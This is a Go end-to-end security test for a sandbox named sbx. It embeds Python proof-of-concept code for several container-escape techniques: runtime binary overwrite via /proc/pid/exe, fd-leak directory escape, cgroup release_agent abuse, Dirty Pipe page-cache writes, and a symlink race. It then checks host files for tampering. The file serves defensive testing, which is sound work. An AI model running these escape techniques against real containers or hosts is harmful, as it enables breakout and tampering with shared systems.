package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

// --- PV-13: the known-exploit corpus ---------------------------------------------
//
// Each PoC is the technique of a container escape, aimed at what sbx has in
// its place: CVE-2019-5736 (rewrite the runtime's binary through
// /proc/<pid>/exe), CVE-2024-21626 (a directory fd leaked into the jail, used
// as a way out), CVE-2022-0492 (mount cgroup v1 in a new user namespace and
// set release_agent), CVE-2021-30465 (swap a path for a symlink while the
// host works on it: FS-04's race, shorter) and CVE-2022-0847 (Dirty Pipe:
// write a read-only file's page cache through a spliced pipe). Each has a
// control showing its technique works on an allowed target, and the far ends
// are checked on the host: the binaries' hashes, the shared /etc layer, the
// cgroup release agents, the canary file and directory. That a PoC would
// have worked on a vulnerable kernel or runtime is not shown: that needs a
// pinned vulnerable kernel (SECURITY.md's ⊘).

const pv13Script = `import os, sys, fcntl, subprocess

def exe_write():
    # CVE-2019-5736: every process whose exe is an sbx binary (the init, the
    # agent), opened for writing directly and through an O_PATH reopen.
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        exe = "/proc/%s/exe" % pid
        try:
            target = os.readlink(exe)
        except OSError as e:
            target = "?%d" % e.errno  # not even its name: still try it
        if "sbx" not in target and not target.startswith("?") and pid != "1":
            continue
        print("target %s %s" % (pid, target))
        for how in ("direct", "opath", "path"):
            try:
                if how == "direct":
                    fd = os.open(exe, os.O_WRONLY)
                elif how == "opath":
                    p = os.open(exe, os.O_PATH)
                    fd = os.open("/proc/self/fd/%d" % p, os.O_WRONLY)
                elif target.startswith("/"):
                    fd = os.open(target, os.O_WRONLY)
                else:
                    continue
                print("OPENED-W %s %s %s" % (pid, how, target))
                os.close(fd)
            except OSError as e:
                print("denied %s %s %d" % (pid, how, e.errno))

def exe_control():
    # The O_PATH reopen works on a file the sandbox may write.
    src = open("/bin/true", "rb").read()
    open("/workspace/exe-copy", "wb").write(src)
    p = os.open("/workspace/exe-copy", os.O_PATH)
    fd = os.open("/proc/self/fd/%d" % p, os.O_WRONLY)
    os.write(fd, b"\x7fELF")
    os.close(fd)
    print("CONTROL-OK")

def fd_walk(canary):
    # CVE-2024-21626: every fd of every process, used as a directory to climb
    # out of, by path and by chdir.
    rel = canary.lstrip("/")
    tried = 0
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            fds = os.listdir("/proc/%s/fd" % pid)
        except OSError:
            continue
        for fd in fds:
            base = "/proc/%s/fd/%s" % (pid, fd)
            for k in range(1, 12):
                tried += 1
                for path in (base + "/.." * k + "/" + rel, base + "/" + "../" * k + rel):
                    try:
                        print("READ %s %s" % (path, open(path).read()))
                    except OSError:
                        pass
                try:
                    os.chdir(base)
                    print("READ-CWD %s %s" % (base, open("../" * k + rel).read()))
                except OSError:
                    pass
                finally:
                    os.chdir("/")
    print("tried %d" % tried)

def fd_control():
    fd = os.open("/workspace", os.O_RDONLY | os.O_DIRECTORY)
    os.chdir("/proc/self/fd/%d" % fd)
    print("CONTROL-OK " + open("planted").read())

def cgroup_escape():
    # CVE-2022-0492: a new user namespace, cgroup v1 mounted in it, and its
    # release_agent set; and the same without the new namespace; and every
    # release_agent the sandbox can see.
    payload = "mkdir -p /tmp/pv13-cg && mount -t tmpfs pv13 /tmp/pv13-cg && echo MOUNTED-TMPFS; " \
        "mkdir -p /tmp/pv13-v1 && mount -t cgroup -o rdma pv13 /tmp/pv13-v1 && echo MOUNTED-CGROUP && " \
        "echo /pv13-payload > /tmp/pv13-v1/release_agent && echo WROTE-AGENT"
    for argv in (["unshare", "-UrmC", "sh", "-c", payload], ["sh", "-c", payload]):
        r = subprocess.run(argv, capture_output=True, text=True)
        print("%s -> %d %s %s" % (argv[0], r.returncode, r.stdout.strip(), r.stderr.strip()[:200]))
    for root, dirs, files in os.walk("/sys/fs/cgroup"):
        if "release_agent" in files:
            try:
                os.close(os.open(os.path.join(root, "release_agent"), os.O_WRONLY))
                print("AGENT-WRITABLE " + root)
            except OSError:
                pass

def dirty_pipe(path):
    # CVE-2022-0847: fill and drain a pipe so its buffers may merge, splice
    # one byte of the file into it, and write: a vulnerable kernel writes the
    # file's page cache.
    before = open(path, "rb").read()
    fd = os.open(path, os.O_RDONLY)
    r, w = os.pipe()
    size = fcntl.fcntl(w, 1032)  # F_GETPIPE_SZ
    n = size
    while n > 0:
        n -= os.write(w, b"A" * min(n, 4096))
    n = size
    while n > 0:
        n -= len(os.read(r, min(n, 4096)))
    spliced = os.splice(fd, w, 1, offset_src=0)
    wrote = os.write(w, b"PV13")
    after = open(path, "rb").read()
    print("splice %d write %d %s" % (spliced, wrote, "DIRTY" if after != before else "clean"))

cmd = sys.argv[1]
if cmd == "exe-write": exe_write()
elif cmd == "exe-control": exe_control()
elif cmd == "fd-walk": fd_walk(sys.argv[2])
elif cmd == "fd-control": fd_control()
elif cmd == "cgroup": cgroup_escape()
elif cmd == "dirty-pipe": dirty_pipe(sys.argv[2])
`

// pv13Hashes are the host files the PoCs aim at: the daemon's binary, the
// sealed copies the sandboxes run, the shared /etc layer's files and the
// cgroup release agents.
func pv13Hashes(r *run) map[string]string {
	files := []string{sbxBin}
	sealed, _ := filepath.Glob(filepath.Join(r.env.workRoot, "bin", "sbx-*"))
	files = append(files, sealed...)
	etc, _ := filepath.Glob(filepath.Join(r.env.workRoot, "layers", "etc*", "nsswitch.conf"))
	files = append(files, etc...)
	agents, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	files = append(files, agents...)
	out := map[string]string{}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			out[f] = "unreadable: " + err.Error()
			continue
		}
		h := sha256.Sum256(b)
		out[f] = hex.EncodeToString(h[:])
	}
	return out
}

func pv13Setup(r *run) error {
	if err := fs04Setup(r); err != nil {
		return err
	}
	id := r.a()
	if st, b := r.api("PUT", "/v1/sandboxes/"+id+"/files/write", map[string]any{"path": "/workspace/pv13.py", "content": pv13Script}); st != 200 {
		return fmt.Errorf("writing the PoCs: %d %s", st, b)
	}
	r.set("planted", "pv13-"+randHex(6))
	if st, b := r.api("PUT", "/v1/sandboxes/"+id+"/files/write", map[string]any{"path": "/workspace/planted", "content": r.get("planted")}); st != 200 {
		return fmt.Errorf("planting: %d %s", st, b)
	}
	h := pv13Hashes(r)
	if len(h) < 3 {
		return fmt.Errorf("the host files the PoCs aim at were not found: %v", h)
	}
	for f, v := range h {
		r.set("hash:"+f, v)
	}
	return nil
}

func pv13Control(r *run) error {
	id := r.a()
	// 5736: the O_PATH reopen writes a file the sandbox may write.
	if res := r.sh(id, "python3 /workspace/pv13.py exe-control"); !strings.Contains(res.Stdout, "CONTROL-OK") {
		return fmt.Errorf("control (CVE-2019-5736): reopening through /proc/self/fd for writing: %+v", res)
	}
	// 21626: a directory fd is a way into that directory.
	if res := r.sh(id, "python3 /workspace/pv13.py fd-control"); !strings.Contains(res.Stdout, "CONTROL-OK "+r.get("planted")) {
		return fmt.Errorf("control (CVE-2024-21626): chdir through /proc/self/fd: %+v", res)
	}
	// 0492: the same mount payload works in a new user namespace on the
	// host (tmpfs: cgroup v1 needs the initial namespace), in a mount
	// namespace of its own.
	out, err := exec.Command("unshare", "-UrmC", "sh", "-c", "d=$(mktemp -d) && mount -t tmpfs pv13 $d && echo MOUNTED-TMPFS").CombinedOutput()
	if err != nil || !strings.Contains(string(out), "MOUNTED-TMPFS") {
		return fmt.Errorf("control (CVE-2022-0492): the mount payload in a user namespace on the host: %v %s", err, out)
	}
	// 0847: every step of the PoC reaches the kernel and succeeds on a file
	// of the sandbox's own.
	if res := r.sh(id, "cp /etc/hostname /workspace/dp && python3 /workspace/pv13.py dirty-pipe /workspace/dp"); !strings.Contains(res.Stdout, "splice 1 write 4") {
		return fmt.Errorf("control (CVE-2022-0847): the PoC's splice and write: %+v", res)
	}
	// 30465: the racing path is reachable while it is a directory.
	return fs04Control(r)
}

func pv13Attack(r *run) error {
	id := r.a()
	// CVE-2019-5736.
	res := r.sh(id, "python3 /workspace/pv13.py exe-write")
	if !strings.Contains(res.Stdout, "target 1 ") {
		return fmt.Errorf("CVE-2019-5736 PoC: no sbx process found to aim at: %+v", res)
	}
	if strings.Contains(res.Stdout, "OPENED-W") {
		r.breach("PV-13 (CVE-2019-5736): an sbx binary opened for writing: %.400s", res.Stdout)
	}
	r.note("CVE-2019-5736: %s", strings.Join(strings.Fields(res.Stdout), " "))
	// CVE-2024-21626, from a shell and from the API's cwd.
	res = r.sh(id, "python3 /workspace/pv13.py fd-walk "+r.s.canaryFile)
	if strings.Contains(res.Stdout, "READ") || strings.Contains(res.Stdout, r.s.canaryValue) {
		r.breach("PV-13 (CVE-2024-21626): the canary read through a /proc fd: %.400s", res.Stdout)
	}
	if !strings.Contains(res.Stdout, "tried ") {
		return fmt.Errorf("CVE-2024-21626 PoC did not run: %+v", res)
	}
	for fd := 3; fd < 16; fd++ {
		for _, cwd := range []string{fmt.Sprintf("/proc/self/fd/%d", fd), fmt.Sprintf("/proc/1/fd/%d", fd)} {
			// A 400 (no such directory) or a run that reads nothing both pass.
			st, b := r.api("POST", "/v1/sandboxes/"+id+"/exec", map[string]any{"command": "cat " + strings.Repeat("../", 10) + strings.TrimPrefix(r.s.canaryFile, "/") + " 2>/dev/null; true", "cwd": cwd})
			if st >= 500 || strings.Contains(string(b), r.s.canaryValue) {
				r.breach("PV-13 (CVE-2024-21626): exec with cwd %s = %d %.200s", cwd, st, b)
			}
		}
	}
	// CVE-2022-0492.
	res = r.sh(id, "python3 /workspace/pv13.py cgroup")
	for _, m := range []string{"MOUNTED", "WROTE-AGENT", "AGENT-WRITABLE"} {
		if strings.Contains(res.Stdout, m) {
			r.breach("PV-13 (CVE-2022-0492): %s inside: %.400s", m, res.Stdout)
		}
	}
	if !strings.Contains(res.Stdout, "unshare -> ") {
		return fmt.Errorf("CVE-2022-0492 PoC did not run: %+v", res)
	}
	r.note("CVE-2022-0492: %s", strings.Join(strings.Fields(res.Stdout), " "))
	// CVE-2022-0847: the shared /etc layer, read-only inside.
	res = r.sh(id, "python3 /workspace/pv13.py dirty-pipe /etc/nsswitch.conf")
	if strings.Contains(res.Stdout, "DIRTY") {
		r.breach("PV-13 (CVE-2022-0847): a read-only file's contents changed: %.300s", res.Stdout)
	}
	r.note("Dirty Pipe on /etc/nsswitch.conf: %s", strings.TrimSpace(res.Stdout+" "+res.Stderr))
	// CVE-2021-30465: FS-04's race, shorter.
	return raceExchange(r, "PV-13 (CVE-2021-30465)", 3*time.Second)
}

func pv13Evidence(r *run) error {
	r.checkHostDir()
	now := pv13Hashes(r)
	for f, v := range now {
		if was := r.get("hash:" + f); was != v {
			r.breach("PV-13: host file %s changed (sha256 %s, was %s)", f, v, was)
		}
	}
	for _, p := range []string{"/pv13-payload", "/tmp/pv13-cg", "/tmp/pv13-v1"} {
		if _, err := os.Stat(p); err == nil {
			r.breach("PV-13: %s exists on the host", p)
		}
	}
	// The sibling still reads its own /etc as it was.
	if res := r.sh(r.env.sibling, "grep -c PV13 /etc/nsswitch.conf"); strings.TrimSpace(res.Stdout) != "0" {
		r.breach("PV-13: the sibling's /etc/nsswitch.conf holds the payload: %+v", res)
	}
	return nil
}
